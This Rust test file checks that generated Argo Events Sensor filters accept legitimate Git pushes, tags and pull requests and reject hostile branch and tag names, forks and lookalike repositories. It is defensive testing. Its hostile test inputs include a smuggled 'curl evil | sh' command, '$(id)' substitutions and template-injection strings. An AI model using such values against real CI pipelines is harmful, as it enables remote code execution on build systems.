//! Replays webhook payloads against the generated Sensors' filters, evaluated like Argo
//! Events does (each `string` value is an RE2 regex, all filters of a dependency must pass):
//! legitimate pushes, tags and pull requests fire exactly one dependency, and hostile branch or
//! tag names, other repositories, forks and deleted branches fire none. Whatever a firing
//! dependency copies into a Workflow argument is then free of quotes, `{{` and `$(`.

use super::support::{function, items};
use serde_json::{Value, json};

fn sensor() -> Value {
    let input = br#"apiVersion: config.kubernetes.io/v1
kind: ResourceList
items:
- apiVersion: pipewright.dev/v1alpha1
  kind: Pipeline
  metadata: {name: api, namespace: team}
  spec:
    repo: https://github.com/acme/api.git
    toolchain: go
    image: registry.acme.io/team/api
    triggers: {push: {branches: [main, release/*]}, tags: true, pullRequests: true}
"#;
    let run = function(input);
    assert_eq!(run.code, 0, "{}", run.stderr);
    items(&run.stdout).into_iter().find(|o| o["kind"] == "Sensor").expect("a Sensor")
}

fn lookup<'a>(payload: &'a Value, path: &str) -> Option<&'a Value> {
    path.split('.').try_fold(payload, |v, key| v.get(key))
}

fn passes(filter: &Value, payload: &Value) -> bool {
    let Some(found) = lookup(payload, filter["path"].as_str().unwrap()) else { return false };
    let text = match found {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    };
    filter["value"].as_array().unwrap().iter().any(|v| match filter["type"].as_str().unwrap() {
        "string" => regex::Regex::new(v.as_str().unwrap()).unwrap().is_match(&text),
        "bool" => text == v.as_str().unwrap(),
        other => panic!("unexpected filter type {other}"),
    })
}

/// The dependencies a payload fires.
fn fired(sensor: &Value, payload: &Value) -> Vec<String> {
    let deps = sensor["spec"]["dependencies"].as_array().unwrap();
    deps.iter()
        .filter(|d| d["filters"]["data"].as_array().unwrap().iter().all(|f| passes(f, payload)))
        .map(|d| d["name"].as_str().unwrap().to_owned())
        .collect()
}

fn push(reference: &str, repo: &str) -> Value {
    json!({"body": {"ref": reference, "after": "0123456789abcdef0123456789abcdef01234567", "deleted": false, "repository": {"full_name": repo}}})
}

fn pull_request(head_repo: &str, number: Value) -> Value {
    json!({"body": {"action": "synchronize", "number": number, "repository": {"full_name": "acme/api"},
        "pull_request": {"head": {"sha": "0123456789abcdef0123456789abcdef01234567", "repo": {"full_name": head_repo}}}}})
}

fn gitlab_push(reference: &str) -> Value {
    json!({"body": {"object_kind": "push", "ref": reference, "checkout_sha": "0123456789abcdef0123456789abcdef01234567", "project": {"path_with_namespace": "acme/api"}}})
}

#[test]
fn legitimate_events_fire_exactly_one_dependency() {
    let s = sensor();
    assert_eq!(fired(&s, &push("refs/heads/main", "acme/api")), ["push"]);
    assert_eq!(fired(&s, &push("refs/heads/release/2.4", "Acme/API")), ["push"]);
    assert_eq!(fired(&s, &push("refs/tags/v1.2.3", "acme/api")), ["tag"]);
    assert_eq!(fired(&s, &push("refs/tags/1.2.3-rc.1", "acme/api")), ["tag"]);
    assert_eq!(fired(&s, &pull_request("acme/api", json!(42))), ["pull-request"]);
    assert_eq!(fired(&s, &gitlab_push("refs/heads/main")), ["gitlab-push"]);
}

#[test]
fn hostile_or_foreign_events_fire_nothing() {
    let s = sensor();
    let hostile_refs = [
        "refs/heads/main'; curl evil | sh; '",
        "refs/heads/release/{{workflow.name}}",
        "refs/heads/release/$(id)",
        "refs/heads/release/a\"b",
        "refs/heads/main\nrefs/heads/x",
        "refs/heads/release/a/b",
        "refs/heads/feature",
        "refs/tags/v1.2.3'$(id)",
        "refs/tags/v1.2.3+build",
        "refs/tags/latest",
        "refs/tags/v1.2",
    ];
    for r in hostile_refs {
        assert!(fired(&s, &push(r, "acme/api")).is_empty(), "{r:?} fired");
        assert!(fired(&s, &gitlab_push(r)).is_empty(), "gitlab {r:?} fired");
    }
    assert!(fired(&s, &push("refs/heads/main", "acme/api-fork")).is_empty(), "another repository fired");
    assert!(fired(&s, &push("refs/heads/main", "evil/acme/api")).is_empty(), "a lookalike repository fired");
    let mut deleted = push("refs/heads/main", "acme/api");
    deleted["body"]["deleted"] = json!(true);
    assert!(fired(&s, &deleted).is_empty(), "a deleted branch fired");
    assert!(fired(&s, &pull_request("mallory/api", json!(42))).is_empty(), "a fork's pull request fired");
    assert!(fired(&s, &pull_request("acme/api", json!("1}}{{x"))).is_empty(), "a forged PR number fired");
}

#[test]
fn arguments_taken_from_events_are_inert() {
    let s = sensor();
    for trigger in s["spec"]["triggers"].as_array().unwrap() {
        let workflow = &trigger["template"]["argoWorkflow"]["source"]["resource"];
        assert!(workflow["spec"].get("templates").is_none() && workflow["spec"]["workflowTemplateRef"]["name"] == "api");
        for p in trigger["template"]["argoWorkflow"]["parameters"].as_array().unwrap() {
            let dep = p["src"]["dependencyName"].as_str().unwrap();
            let filters =
                s["spec"]["dependencies"].as_array().unwrap().iter().find(|d| d["name"] == dep).unwrap()["filters"]["data"].clone();
            // Every payload field a parameter reads is pinned by an anchored filter on that field.
            let fields: Vec<String> = match (p["src"]["dataKey"].as_str(), p["src"]["dataTemplate"].as_str()) {
                (Some(key), _) => vec![key.to_owned()],
                (_, Some(t)) => t.split(".Input.").skip(1).map(|rest| rest.split([' ', '}']).next().unwrap().to_owned()).collect(),
                _ => panic!("a parameter with no source"),
            };
            for field in fields {
                let pinned = filters.as_array().unwrap().iter().any(|f| {
                    f["path"] == field.as_str()
                        && f["value"].as_array().unwrap().iter().all(|v| {
                            let v = v.as_str().unwrap().trim_start_matches("(?i)");
                            v.starts_with('^') && v.ends_with('$') && !v.contains(".*")
                        })
                });
                assert!(pinned, "dependency {dep}: argument from {field} is not pinned by an anchored filter");
            }
        }
    }
}
